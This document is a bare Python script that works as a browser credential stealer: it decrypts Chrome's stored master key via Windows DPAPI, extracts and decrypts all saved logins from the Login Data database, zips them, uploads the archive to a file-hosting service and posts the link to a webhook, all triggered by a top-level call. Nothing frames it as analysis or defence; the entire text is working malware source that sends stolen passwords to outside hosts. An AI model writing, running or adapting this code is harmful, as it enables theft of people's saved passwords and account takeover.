import base64, json, os, shutil, sqlite3, zipfile
from pathlib import Path
import requests
from Crypto.Cipher import AES
from win32crypt import CryptUnprotectData

ROOT = Path(os.environ["LOCALAPPDATA"]) / "Google" / "Chrome" / "User Data"


def key():
    state = json.loads((ROOT / "Local State").read_text())
    return CryptUnprotectData(base64.b64decode(state["os_crypt"]["encrypted_key"])[5:], None, None, None, 0)[1]


def logins(k):
    shutil.copy2(ROOT / "Default" / "Login Data", "l.db")
    for url, user, blob in sqlite3.connect("l.db").execute("select origin_url, username_value, password_value from logins"):
        yield url, user, AES.new(k, AES.MODE_GCM, blob[3:15]).decrypt(blob[15:])[:-16].decode()


def main():
    with zipfile.ZipFile("o.zip", "w") as z:
        z.writestr("p.txt", "\n".join(map(str, logins(key()))))
    server = requests.get("https://api.gofile.example.invalid/getServer").json()["data"]["server"]
    link = requests.post(f"https://{server}.gofile.example.invalid/uploadFile", files={"file": open("o.zip", "rb")}).json()
    requests.post("https://hooks.example.invalid/api/webhooks/9/z", json={"content": str(link)})


main()
